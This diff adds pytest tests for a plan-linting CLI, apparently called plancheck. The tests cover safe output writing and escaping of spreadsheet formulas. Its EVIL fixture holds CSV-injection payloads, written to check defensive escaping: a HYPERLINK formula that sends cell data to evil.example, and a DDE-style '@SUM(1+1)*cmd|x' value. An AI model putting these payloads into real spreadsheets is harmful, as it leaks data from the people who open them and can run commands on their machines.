@@ -325,3 +325,217 @@ def test_baseline_written_by_plancheck_is_not_a_plan(tmp_path):
     out = tmp_path / "plancheck-baseline.json"
     invoke("lint", SAMPLES / "binh-phuoc-2025.csv", "--write-baseline", out, "--fail-on", "never")
     assert out.exists() and not _hook_selects(f"plans/{out.name}")
+# ---------------------------------------------------------------- outputs that cannot damage
+
+
+def run_cli(*args, **kw):
+    import os
+
+    from .conftest import ROOT
+
+    if args and args[0] in ("lint", "compare", "export") and "--lang" not in args:
+        args = (*args, "--lang", "en")  # messages checked in English here
+    return subprocess.run([sys.executable, "-m", "plancheck", *map(str, args)], capture_output=True, text=True,
+                          env={**os.environ, "PYTHONPATH": str(ROOT)}, timeout=120, **kw)
+
+
+GOOD = SAMPLES / "binh-phuoc-2025.csv"
+
+
+def test_output_onto_a_character_device_writes_in_place(tmp_path):
+    """``--output /dev/null`` works and leaves the device a device, as root too. As root the
+    test makes its own null device (a failure must not replace the machine's /dev/null)."""
+    import os
+    import stat
+
+    if os.geteuid() == 0:
+        null = tmp_path / "null"
+        os.mknod(null, stat.S_IFCHR | 0o666, os.makedev(1, 3))
+    else:
+        null = Path("/dev/null")
+    for args in (["lint", GOOD, "--format", "json"], ["lint", GOOD, "--write-baseline"],
+                 ["compare", SAMPLES / "clean-province-2025.csv", GOOD, "--format", "csv"],
+                 ["export", "--to", "pandera"]):
+        p = run_cli(*args, str(null)) if args[-1] == "--write-baseline" else run_cli(*args, "-o", null)
+        assert p.returncode in (0, 1), p.stderr
+        assert stat.S_ISCHR(os.stat(null).st_mode)
+    if null.parent == tmp_path:
+        assert [x.name for x in tmp_path.iterdir()] == ["null"]  # nothing created beside it
+
+
+def test_output_into_a_fifo(tmp_path):
+    import os
+    import stat
+    import threading
+
+    fifo = tmp_path / "pipe"
+    os.mkfifo(fifo)
+    got = []
+    reader = threading.Thread(target=lambda: got.append(open(fifo, "rb").read()))
+    reader.start()
+    p = run_cli("lint", GOOD, "--format", "json", "-o", fifo)
+    reader.join(30)
+    assert p.returncode == 1 and json.loads(got[0])["findings"]
+    assert stat.S_ISFIFO(os.stat(fifo).st_mode)
+
+
+def test_output_never_onto_a_file_being_linted(tmp_path):
+    import os
+
+    folder = tmp_path / "plans"
+    folder.mkdir()
+    plan = folder / "plan.csv"
+    plan.write_bytes(GOOD.read_bytes())
+    os.link(plan, tmp_path / "hard-link.csv")
+    (tmp_path / "sym-link.csv").symlink_to(plan)
+    for target in (plan, tmp_path / "hard-link.csv", tmp_path / "sym-link.csv"):
+        for args in (["-o", target], ["--write-baseline", target]):
+            p = run_cli("lint", folder, "--format", "json", *args)
+            assert p.returncode == 2 and "refusing to write" in p.stderr and "onto an input file" in p.stderr
+            assert plan.read_bytes() == GOOD.read_bytes()
+    p = run_cli("compare", plan, SAMPLES / "clean-province-2025.csv", "-o", tmp_path / "hard-link.csv")
+    assert p.returncode == 2 and "onto an input file" in p.stderr and plan.read_bytes() == GOOD.read_bytes()
+    suite = tmp_path / "suite.yaml"
+    suite.write_bytes((Path(__file__).parent.parent / "plancheck" / "suites" / "national.yaml").read_bytes())
+    p = run_cli("export", "--to", "pandera", suite, "-o", suite)
+    assert p.returncode == 2 and "onto an input file" in p.stderr
+
+
+def test_new_outputs_follow_the_umask_and_existing_ones_keep_their_mode(tmp_path):
+    import os
+
+    for umask, mode in ((0o022, 0o644), (0o077, 0o600), (0o002, 0o664)):
+        out = tmp_path / f"report-{umask:o}.json"
+        p = run_cli("lint", GOOD, "--format", "json", "-o", out, preexec_fn=lambda u=umask: os.umask(u))
+        assert p.returncode == 1 and os.stat(out).st_mode & 0o777 == mode
+    out = tmp_path / "shared.json"
+    out.write_text("old", encoding="utf-8")
+    os.chmod(out, 0o640)
+    p = run_cli("lint", GOOD, "--format", "json", "-o", out)
+    assert p.returncode == 1 and os.stat(out).st_mode & 0o777 == 0o640 and json.loads(out.read_text("utf-8"))
+
+
+def test_read_only_target_is_refused(tmp_path):
+    """Even for root, who could replace it."""
+    import os
+
+    out = tmp_path / "signed-off.xlsx"
+    out.write_bytes(b"the approved copy")
+    os.chmod(out, 0o444)
+    for args in (["lint", GOOD, "--format", "xlsx", "-o", out], ["lint", GOOD, "--write-baseline", out],
+                 ["export", "--to", "gx", "-o", out]):
+        p = run_cli(*args)
+        assert p.returncode == 2 and "read-only" in p.stderr, p.stderr
+        assert out.read_bytes() == b"the approved copy" and os.stat(out).st_mode & 0o777 == 0o444
+    assert sorted(x.name for x in tmp_path.iterdir()) == ["signed-off.xlsx"]
+
+
+def test_interrupted_write_leaves_the_old_file_and_no_temporary(tmp_path, monkeypatch):
+    import os
+
+    from plancheck import outputs
+
+    out = tmp_path / "report.json"
+    out.write_text("old", encoding="utf-8")
+
+    def interrupted(*_):
+        raise KeyboardInterrupt
+
+    monkeypatch.setattr(os, "replace", interrupted)
+    with pytest.raises(KeyboardInterrupt):
+        outputs.write_output(str(out), "new", ())
+    assert out.read_text(encoding="utf-8") == "old" and [x.name for x in tmp_path.iterdir()] == ["report.json"]
+
+
+def test_output_onto_a_folder_or_a_socket_is_refused(tmp_path):
+    import socket
+
+    p = run_cli("lint", GOOD, "-o", tmp_path)
+    assert p.returncode == 2 and "is a directory" in p.stderr
+    sock = socket.socket(socket.AF_UNIX)
+    sock.bind(str(tmp_path / "s"))
+    try:
+        p = run_cli("lint", GOOD, "-o", tmp_path / "s")
+        assert p.returncode == 2 and "is a socket" in p.stderr
+    finally:
+        sock.close()
+
+
+# ---------------------------------------------------------------- spreadsheet-safe text
+
+EVIL = ('name,unit,2025,2030\n'
+        'Tỷ lệ thất nghiệp chung,%,"=HYPERLINK(""http://evil.example/?d=""&A1,""Bấm vào đây"")",- \n'
+        '@SUM(1+1)*cmd|x,%,-5,+ Chấm dứt tình trạng thiếu việc làm\n'
+        'Tỷ lệ lao động qua đào tạo,%,\t=1+1,\r=2+2\n')
+FORMULA_TEXT = ('=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")', "@SUM(1+1)*cmd|x", "-5",
+                "+ Chấm dứt tình trạng thiếu việc làm")
+
+
+def test_workbook_text_never_becomes_a_formula(tmp_path):
+    import zipfile
+
+    from openpyxl import load_workbook
+
+    plan = tmp_path / "evil.csv"
+    plan.write_text(EVIL, encoding="utf-8")
+    out = tmp_path / "followup.xlsx"
+    run_cli("lint", plan, "--format", "xlsx", "-o", out)
+    with zipfile.ZipFile(out) as z:
+        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")]
+    assert not any("<f>" in s for s in sheets)  # no formula anywhere
+    sheet = load_workbook(out)["evil"]
+    cells = {c.value: c for row in sheet.iter_rows(min_row=2) for c in row if isinstance(c.value, str)}
+    for text in FORMULA_TEXT:  # exactly as written, readable, a text cell marked as text
+        assert cells[text].data_type == "s" and cells[text].quotePrefix, text
+    numbers = [c.value for row in sheet.iter_rows(min_row=2) for c in row[:1]]
+    assert numbers and all(isinstance(n, int) for n in numbers)  # line numbers stay numbers
+    assert isinstance(sheet.cell(2, 5).value, int)  # and so do years
+
+
+def test_compare_workbook_keeps_no_target_readable(tmp_path):
+    from openpyxl import load_workbook
+
+    a, b = tmp_path / "a.csv", tmp_path / "b.csv"
+    a.write_text("name,unit,2025,2030\nTỷ lệ thất nghiệp chung,%,- ,=1+1\n", encoding="utf-8")
+    b.write_text("name,unit,2025,2030\nTỷ lệ thất nghiệp chung,%,< 3,< 3\n", encoding="utf-8")
+    out = tmp_path / "cmp.xlsx"
+    run_cli("compare", a, b, "--format", "xlsx", "-o", out)
+    values = {c.value: c for row in load_workbook(out).active.iter_rows(min_row=2) for c in row}
+    assert values["=1+1"].data_type == "s" and values["=1+1"].quotePrefix
+    assert 2030 in values and values[2030].data_type == "n"
+
+
+def test_csv_text_gets_an_apostrophe_numbers_do_not(tmp_path):
+    import csv
+    import io
+
+    plan = tmp_path / "evil.csv"
+    plan.write_text(EVIL, encoding="utf-8")
+    rows = list(csv.DictReader(io.StringIO(run_cli("lint", plan, "--format", "csv").stdout)))
+    values = {r["Value as written"] for r in rows} | {r["Indicator (as written)"] for r in rows}
+    assert "'=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Bấm vào đây\")" in values
+    assert "'@SUM(1+1)*cmd|x" in values and "'+ Chấm dứt tình trạng thiếu việc làm" in values
+    assert "-5" in values  # a number is left as it is
+    assert not any(v.startswith(("=", "+", "@", "\t", "\r")) for r in rows for v in r.values())
+    assert all(r["Line"].isdigit() and r["Year"].isdigit() for r in rows if r["Year"])
+    p = run_cli("compare", plan, GOOD, "--format", "csv", "--status", "all")
+    cells = [c for row in csv.reader(io.StringIO(p.stdout)) for c in row]
+    assert "'=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Bấm vào đây\")" in cells
+    assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for c in cells)
+
+
+@pytest.mark.parametrize("text", ["-", "- ", "+ Chấm dứt tình trạng nhà tạm", "=1+1", "@A1", "\t=1", "\r=1"])
+def test_no_target_and_other_formula_like_values_stay_readable(text):
+    """'-' (no target) and '+ Chấm dứt...' are real values: kept readable, never a formula."""
+    from openpyxl import Workbook
+
+    from plancheck.reporters.cells import append_row, csv_cell
+
+    assert csv_cell(text) == "'" + text
+    ws = Workbook().active
+    append_row(ws, [text, 2030, "11.900"])
+    cell = ws.cell(1, 1)
+    assert cell.value == text and cell.data_type == "s" and cell.quotePrefix
+    assert ws.cell(1, 2).data_type == "n" and not ws.cell(1, 3).quotePrefix
+    assert [csv_cell(v) for v in ("-5", "+3", "-1,5", "11.900", "> 975", 2030)] == ["-5", "+3", "-1,5", "11.900",
+                                                                                     "> 975", 2030]
